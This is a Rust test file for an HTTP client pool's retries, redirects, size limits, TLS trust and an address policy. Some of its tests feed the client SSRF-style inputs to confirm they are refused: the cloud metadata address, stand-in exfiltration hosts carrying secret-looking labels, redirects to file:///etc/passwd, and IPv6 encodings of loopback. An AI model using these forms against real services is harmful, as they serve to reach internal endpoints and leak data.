//! The HTTP client pool (pure Rust, no PostgreSQL) against the local test server: responses,
//! failures, redirects, the response size limit, the address policy and keep-alive reuse.
use pg_pulse::http::client::{FailureKind, Pool, Reply, Request, Verdict};
use pg_pulse::http::policy::{Policy, DEFAULT_DENIED};
use pulse_e2e::server::Server;
use std::time::Duration;

fn allow_local() -> Policy {
    Policy::parse("127.0.0.1", DEFAULT_DENIED).unwrap()
}

fn req(tag: u64, method: &str, url: String) -> Request {
    Request {
        tag,
        key: 0,
        method: method.into(),
        url,
        headers: vec![("X-Key".into(), "v1".into())],
        body: None,
        timeout: Duration::from_secs(5),
        follow_redirects: false,
        max_response_bytes: 1024,
        not_before: None,
    }
}

fn one(pool: &Pool, r: Request) -> Reply {
    pool.submit(r);
    pool.recv_timeout(Duration::from_secs(20))
        .expect("a reply within 20 s")
}

#[test]
fn responses_and_failures() {
    let srv = Server::start();
    let pool = Pool::new(4, allow_local(), Box::new(|| {}));

    // success: status, headers and body captured; the request arrives with headers and body
    let mut r = req(1, "POST", srv.url("/ok"));
    r.body = Some(br#"{"a":1}"#.to_vec());
    r.headers
        .push(("Content-Type".into(), "application/json".into()));
    let rep = one(&pool, r);
    let resp = rep.result.as_ref().unwrap();
    assert_eq!((rep.tag, resp.status), (1, 200));
    assert_eq!(resp.body, br#"{"ok": true}"#);
    assert_eq!(resp.header("x-test"), Some("yes"));
    assert_eq!(rep.verdict(), Verdict::Succeeded);
    assert!(rep.headers_after.is_some());
    let seen = srv.seen("/ok");
    assert_eq!(seen[0].method, "POST");
    assert_eq!(seen[0].header("X-Key"), Some("v1"));
    assert_eq!(seen[0].body_text(), r#"{"a":1}"#);

    // 500 and 429 are failures worth a retry; 404 is not
    let rep = one(&pool, req(2, "GET", srv.url("/status/500")));
    assert_eq!(rep.verdict(), Verdict::Failed { retry: true });
    let rep = one(&pool, req(3, "GET", srv.url("/busy/a")));
    assert_eq!(
        rep.result.as_ref().unwrap().header("retry-after"),
        Some("1")
    );
    assert_eq!(rep.verdict(), Verdict::Failed { retry: true });
    let rep = one(&pool, req(4, "GET", srv.url("/nothing")));
    assert_eq!(rep.verdict(), Verdict::Failed { retry: false });

    // a slow server: timed out, and the message says so without the URL
    let mut r = req(5, "GET", srv.url("/slow/3000?key=SECRETVALUE"));
    r.timeout = Duration::from_millis(300);
    let rep = one(&pool, r);
    assert_eq!(rep.verdict(), Verdict::TimedOut);
    let f = rep.result.unwrap_err();
    assert!(f.message.contains("timed out after 300 ms"), "{f:?}");
    assert!(!f.message.contains("SECRETVALUE"));

    // nothing listening: connection refused, worth a retry
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let rep = one(
        &pool,
        req(
            6,
            "GET",
            format!("http://127.0.0.1:{port}/x?key=SECRETVALUE"),
        ),
    );
    assert_eq!(rep.verdict(), Verdict::Failed { retry: true });
    let f = rep.result.unwrap_err();
    assert_eq!(f.kind, FailureKind::Connect);
    assert!(f.message.contains("refused"), "{f:?}");
    assert!(!f.message.contains("SECRETVALUE"));

    // not HTTP at all
    let rep = one(&pool, req(7, "GET", srv.url("/garbage")));
    assert!(matches!(rep.verdict(), Verdict::Failed { .. }), "{rep:?}");

    // a body over the limit is cut and flagged
    let rep = one(&pool, req(8, "GET", srv.url("/big/5000")));
    let resp = rep.result.unwrap();
    assert_eq!((resp.body.len(), resp.truncated), (1024, true));
    let rep = one(&pool, req(9, "GET", srv.url("/big/1024")));
    let resp = rep.result.unwrap();
    assert_eq!((resp.body.len(), resp.truncated), (1024, false));
}

#[test]
fn redirects_are_followed_only_when_asked() {
    let srv = Server::start();
    let pool = Pool::new(2, allow_local(), Box::new(|| {}));
    let rep = one(&pool, req(1, "GET", srv.url("/redirect")));
    let resp = rep.result.unwrap();
    assert_eq!(resp.status, 302);
    assert_eq!(resp.header("location"), Some("/ok"));
    assert!(srv.seen("/ok").is_empty(), "not followed by default");
    let mut r = req(2, "GET", srv.url("/redirect"));
    r.follow_redirects = true;
    let rep = one(&pool, r);
    assert_eq!(rep.result.unwrap().status, 200);
    assert_eq!(srv.seen("/ok").len(), 1);
}

#[test]
fn the_address_policy_is_checked_after_resolution() {
    let srv = Server::start();
    // default policy: loopback is denied, also when reached by name
    let pool = Pool::new(
        2,
        Policy::parse("", DEFAULT_DENIED).unwrap(),
        Box::new(|| {}),
    );
    for url in [srv.url("/ok"), format!("http://localhost:{}/ok", srv.port)] {
        let rep = one(&pool, req(1, "GET", url));
        let f = rep.result.unwrap_err();
        assert_eq!(f.kind, FailureKind::Policy, "{f:?}");
        assert!(f.message.contains("denied network"), "{f:?}");
    }
    // metadata addresses: refused before any connection is tried
    let rep = one(&pool, req(2, "GET", "http://169.254.169.254/latest".into()));
    assert_eq!(rep.result.unwrap_err().kind, FailureKind::Policy);
    // an allow-list refuses other hosts
    pool.set_policy(Policy::parse("example.invalid", DEFAULT_DENIED).unwrap());
    let rep = one(&pool, req(3, "GET", srv.url("/ok")));
    let f = rep.result.unwrap_err();
    assert!(
        f.message.contains("not in pulse.http_allowed_hosts"),
        "{f:?}"
    );
    // allowed explicitly: it works
    pool.set_policy(allow_local());
    let rep = one(&pool, req(4, "GET", srv.url("/ok")));
    assert_eq!(rep.result.unwrap().status, 200);
    assert!(
        srv.seen("/ok").len() == 1,
        "only the allowed request arrived"
    );
}

#[test]
fn connections_are_reused_and_bounded() {
    let srv = Server::start();
    let notified = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let n2 = notified.clone();
    let pool = Pool::new(
        4,
        allow_local(),
        Box::new(move || {
            n2.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        }),
    );
    for i in 0..400 {
        pool.submit(req(i, "GET", srv.url("/ok")));
    }
    let mut tags = Vec::new();
    while tags.len() < 400 {
        let rep = pool.recv_timeout(Duration::from_secs(20)).expect("reply");
        assert_eq!(rep.verdict(), Verdict::Succeeded);
        tags.push(rep.tag);
    }
    tags.sort();
    assert_eq!(tags, (0..400).collect::<Vec<_>>());
    assert!(srv.connections() <= 4, "{} connections", srv.connections());
    // each reply is sent before its notification: the last one may still be on its way
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while notified.load(std::sync::atomic::Ordering::Relaxed) < 400
        && std::time::Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert_eq!(notified.load(std::sync::atomic::Ordering::Relaxed), 400);
}

#[test]
fn ipv6_forms_of_a_denied_ipv4_network_are_refused() {
    // a server on [::] (reached by `::`, `::ffff:127.0.0.1` and 127.0.0.1 on Linux)
    let srv = Server::start_at("[::]:0");
    let port = srv.port;
    // denied: "this host" and loopback as IPv4 networks only; `::` is 0.0.0.0 in IPv4-compatible
    // form, `::ffff:127.0.0.1` is 127.0.0.1 mapped
    let pool = Pool::new(
        2,
        Policy::parse("", "0.0.0.0/8, 127.0.0.0/8").unwrap(),
        Box::new(|| {}),
    );
    for host in [
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:0.0.0.0]",
        "127.0.0.1",
    ] {
        let rep = one(&pool, req(1, "GET", format!("http://{host}:{port}/ok")));
        let f = rep.result.unwrap_err();
        assert_eq!(f.kind, FailureKind::Policy, "{host}: {f:?}");
        assert!(f.message.contains("denied network"), "{host}: {f:?}");
    }
    // and the default networks
    pool.set_policy(Policy::parse("", DEFAULT_DENIED).unwrap());
    for host in [
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::1]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
    ] {
        let rep = one(&pool, req(2, "GET", format!("http://{host}:{port}/ok")));
        assert_eq!(rep.result.unwrap_err().kind, FailureKind::Policy, "{host}");
    }
    assert!(srv.seen("/ok").is_empty(), "no request arrived");
    // an explicitly allowed loopback host still works
    pool.set_policy(allow_local());
    let rep = one(&pool, req(3, "GET", format!("http://127.0.0.1:{port}/ok")));
    assert_eq!(rep.result.unwrap().status, 200);
}

#[test]
fn a_host_not_in_the_allowlist_is_refused_before_any_dns_lookup() {
    let srv = Server::start();
    let pool = Pool::new(2, allow_local(), Box::new(|| {}));
    // a name that does not resolve (.example): looked up first, it would fail as a DNS error
    let rep = one(
        &pool,
        req(1, "GET", "http://secret-data-ABC123.exfil.example/x".into()),
    );
    let f = rep.result.unwrap_err();
    assert_eq!(f.kind, FailureKind::Policy, "{f:?}");
    assert!(
        f.message.contains(
            "host \"secret-data-abc123.exfil.example\" is not in pulse.http_allowed_hosts"
        ),
        "{f:?}"
    );
    // the same on a redirect
    let mut r = req(
        2,
        "GET",
        srv.url("/goto?to=http://secret-data-DEF456.exfil.example/y"),
    );
    r.follow_redirects = true;
    let f = one(&pool, r).result.unwrap_err();
    assert_eq!(f.kind, FailureKind::Policy, "{f:?}");
    assert!(
        f.message.contains("not in pulse.http_allowed_hosts"),
        "{f:?}"
    );
}

#[test]
fn redirects_to_other_schemes_fail_cleanly() {
    let srv = Server::start();
    let pool = Pool::new(2, allow_local(), Box::new(|| {}));
    for (to, says) in [
        ("file:///etc/passwd", "a redirect uses the scheme \"file\""),
        ("data:text/plain,hi", "a redirect uses the scheme \"data\""),
        ("ftp://127.0.0.1/x", "a redirect uses the scheme \"ftp\""),
        ("http://[::1/x", "a redirect is not a valid URL"),
    ] {
        let mut r = req(1, "GET", srv.url(&format!("/goto?to={to}")));
        r.follow_redirects = true;
        let rep = one(&pool, r);
        let f = rep.result.unwrap_err();
        assert_eq!(f.kind, FailureKind::Protocol, "{to}: {f:?}");
        assert!(f.message.contains(says), "{to}: {f:?}");
        assert!(!f.message.contains("internal error"), "{to}: {f:?}");
    }
    // not followed: the redirect itself is the response
    let rep = one(&pool, req(2, "GET", srv.url("/goto?to=file:///etc/passwd")));
    assert_eq!(rep.result.unwrap().status, 302);
    // an invalid URL handed to the pool fails cleanly too
    let f = one(&pool, req(3, "GET", "http://[::1/x".into()))
        .result
        .unwrap_err();
    assert!(f.message.contains("not a valid URL"), "{f:?}");
}

#[test]
fn up_to_five_redirects_are_followed_without_credentials() {
    let srv = Server::start();
    let pool = Pool::new(2, allow_local(), Box::new(|| {}));
    let mut r = req(1, "GET", srv.url("/hops/5"));
    r.follow_redirects = true;
    let resp = one(&pool, r).result.unwrap();
    assert_eq!((resp.status, resp.body.as_slice()), (200, &b"arrived"[..]));
    let mut r = req(2, "GET", srv.url("/hops/6"));
    r.follow_redirects = true;
    let f = one(&pool, r).result.unwrap_err();
    assert!(f.message.contains("more than 5 redirects"), "{f:?}");
    // a POST redirected by a 302 becomes a GET without body; Authorization is not passed on
    let mut r = req(3, "POST", srv.url("/goto?to=/echo"));
    r.follow_redirects = true;
    r.body = Some(b"payload".to_vec());
    r.headers
        .push(("Authorization".into(), "Bearer tok".into()));
    let resp = one(&pool, r).result.unwrap();
    assert_eq!(resp.status, 200);
    let seen = srv.seen("/echo");
    assert_eq!(seen[0].method, "GET");
    assert!(seen[0].body.is_empty());
    assert_eq!(seen[0].header("authorization"), None);
    assert_eq!(seen[0].header("x-key"), Some("v1"));
}

#[test]
fn https_trusts_the_system_roots_and_pulse_http_ca_file() {
    use pulse_e2e::tls_server::TlsServer;
    let tls = TlsServer::start();
    let pool = Pool::new(2, allow_local(), Box::new(|| {}));
    // its CA is not among the system's roots: a certificate error, not retried
    let rep = one(&pool, req(1, "GET", tls.url("/x")));
    let f = rep.result.unwrap_err();
    assert_eq!(f.kind, FailureKind::Protocol, "{f:?}");
    assert!(
        f.message.contains("TLS handshake failed") && f.message.contains("certificate"),
        "{f:?}"
    );
    assert_eq!(tls.served(), 0);
    // with the CA file: it works
    pool.set_ca_file(tls.ca_file.to_str()).unwrap();
    let rep = one(&pool, req(2, "GET", tls.url("/x")));
    let resp = rep.result.unwrap();
    assert_eq!((resp.status, resp.body.as_slice()), (200, &b"secure"[..]));
    assert_eq!(tls.served(), 1);
    // an unreadable file: HTTPS requests say why and are not sent; plain HTTP still works
    let e = pool.set_ca_file(Some("/nonexistent/ca.pem")).unwrap_err();
    assert!(
        e.contains("pulse.http_ca_file \"/nonexistent/ca.pem\" cannot be read"),
        "{e}"
    );
    let f = one(&pool, req(3, "GET", tls.url("/x"))).result.unwrap_err();
    assert_eq!(f.kind, FailureKind::NotSent, "{f:?}");
    assert!(f.message.contains("pulse.http_ca_file"), "{f:?}");
    let srv = Server::start();
    assert_eq!(
        one(&pool, req(4, "GET", srv.url("/ok")))
            .result
            .unwrap()
            .status,
        200
    );
    // back to no file: the system's roots only
    pool.set_ca_file(None).unwrap();
    let f = one(&pool, req(5, "GET", tls.url("/x"))).result.unwrap_err();
    assert!(f.message.contains("TLS handshake failed"), "{f:?}");
    assert_eq!(tls.served(), 1);
}
